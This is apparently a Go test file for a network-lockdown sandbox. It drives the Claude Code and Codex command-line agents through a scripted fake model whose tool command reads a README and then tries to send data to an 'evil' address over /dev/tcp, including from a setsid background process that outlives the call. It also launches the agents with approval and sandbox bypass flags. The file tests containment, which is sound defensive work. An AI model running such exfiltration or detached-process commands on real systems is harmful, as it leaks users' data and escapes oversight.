//go:build attack && linux && (amd64 || arm64)

package netlock

import (
	"bytes"
	"context"
	"fmt"
	"net/http/httptest"
	"net/netip"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"
)

// toolAttack is what the scripted model has the agent's tool do: read a file,
// then try a port, also from a process that outlives the call. It looks up no
// name, so that all lookups that are listed are the agent's own.
func toolAttack(evil netip.AddrPort) string {
	return fmt.Sprintf(`cat README; (echo x > /dev/tcp/%s/%d) 2>/dev/null && echo LEAK; `+
		`(setsid bash -c 'sleep 0.2; echo x > /dev/tcp/%s/%d' 2>/dev/null &); echo tool-end`, evil.Addr(), evil.Port(), evil.Addr(), evil.Port())
}

type agentRun struct {
	out     string
	err     error
	refused []string
	model   *scriptedModel
	sinks   *sinks
}

// runAgent runs an agent's program in a directory of its own, with its
// telemetry and updates left on.
func runAgent(t *testing.T, command func(base, home string) (argv, env []string)) agentRun {
	t.Helper()
	_, s := broker(t)
	r := agentRun{sinks: s, model: &scriptedModel{command: toolAttack(s.evil4)}}
	server := httptest.NewServer(r.model)
	t.Cleanup(server.Close)
	home := sharedDir(t)
	if err := os.WriteFile(filepath.Join(home, "README"), []byte("the-readme\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	p := testPolicy(t, netip.MustParseAddrPort(server.Listener.Addr().String()))
	if p.locksPaths() {
		p.ReadWrite = append(p.ReadWrite, home, "/dev")
	}
	argv, env := command(server.URL, home)
	ctx, cancel := context.WithTimeout(t.Context(), 2*time.Minute)
	defer cancel()
	c := Command(ctx, p, argv...)
	c.Dir, c.WaitDelay = home, 5*time.Second
	c.Env = append([]string{"HOME=" + home, "TMPDIR=" + home, "PATH=/usr/local/bin:/usr/bin:/bin", "LANG=C.UTF-8"}, env...)
	var mu sync.Mutex
	c.Events = func(e Event) {
		mu.Lock()
		defer mu.Unlock()
		e.Count = 1
		if what := e.String() + ", by " + e.Program; e.Verdict == VerdictDeny && !slices.Contains(r.refused, what) {
			r.refused = append(r.refused, what)
		}
	}
	var out bytes.Buffer
	c.Stdout, c.Stderr = &out, &out
	begin := time.Now()
	r.err = c.Run()
	r.out = out.String()
	t.Logf("%s: %v in %v, requests %v", filepath.Base(argv[0]), r.err, time.Since(begin).Round(time.Millisecond), r.model.turns)
	slices.Sort(r.refused)
	for _, e := range r.refused {
		t.Log("  ", e)
	}
	return r
}

// check: the turn is complete, the tool ran, nothing got out, and what was
// tried is listed.
func (r agentRun) check(t *testing.T, evil string) {
	t.Helper()
	if r.err != nil || !strings.Contains(r.out, "DONE: ") || !strings.Contains(r.model.tool, "the-readme") || !strings.Contains(r.model.tool, "tool-end") {
		t.Errorf("%v; tool said %q\n%s", r.err, r.model.tool, r.out)
	}
	if strings.Contains(r.model.tool, "LEAK") || r.sinks.leaks.Load() != 0 {
		t.Errorf("%d leaks; tool said %q", r.sinks.leaks.Load(), r.model.tool)
	}
	for _, want := range []string{"refused: connection to " + evil, "refused: socket IPv4 datagram (UDP"} {
		if !slices.ContainsFunc(r.refused, func(s string) bool { return strings.HasPrefix(s, want) }) {
			t.Errorf("%q is not listed", want)
		}
	}
}

// agentProgram finds a program under NETLOCK_CLIS, which ci.sh fills.
func agentProgram(t *testing.T, pattern string) string {
	t.Helper()
	found, err := filepath.Glob(filepath.Join(os.Getenv("NETLOCK_CLIS"), "node_modules", pattern))
	if err != nil || len(found) != 1 {
		t.Fatalf("NETLOCK_CLIS=%q: %s: %v %v (run ci.sh)", os.Getenv("NETLOCK_CLIS"), pattern, found, err)
	}
	return found[0]
}

func TestClaudeCode(t *testing.T) {
	t.Parallel()
	program := agentProgram(t, "@anthropic-ai/claude-code-linux-*/claude")
	r := runAgent(t, func(base, _ string) (argv, env []string) {
		return []string{
			program, "-p", "look at the README", "--output-format", "stream-json", "--verbose", "--permission-mode", "dontAsk",
			"--tools", "Bash", "--allowedTools", "Bash", "--setting-sources", "", "--strict-mcp-config", "--disable-slash-commands",
		}, []string{"ANTHROPIC_BASE_URL=" + base, "ANTHROPIC_API_KEY=dummy"}
	})
	r.check(t, r.sinks.evil4.String())
}

func TestCodex(t *testing.T) {
	t.Parallel()
	program := agentProgram(t, "@openai/codex-linux-*/vendor/*/bin/codex")
	r := runAgent(t, func(base, home string) (argv, env []string) {
		return []string{
			program, "exec", "--json", "--skip-git-repo-check", "--dangerously-bypass-approvals-and-sandbox",
			"-c", `model="gpt-5.5"`, "-c", `model_provider="scripted"`, "-c", "features.unbounded_connection_retries=false",
			"-c", `model_providers.scripted={name="scripted",base_url="` + base + `/v1",wire_api="responses",request_max_retries=1,stream_max_retries=1}`,
			"look at the README",
		}, []string{"CODEX_HOME=" + home}
	})
	r.check(t, r.sinks.evil4.String())
}
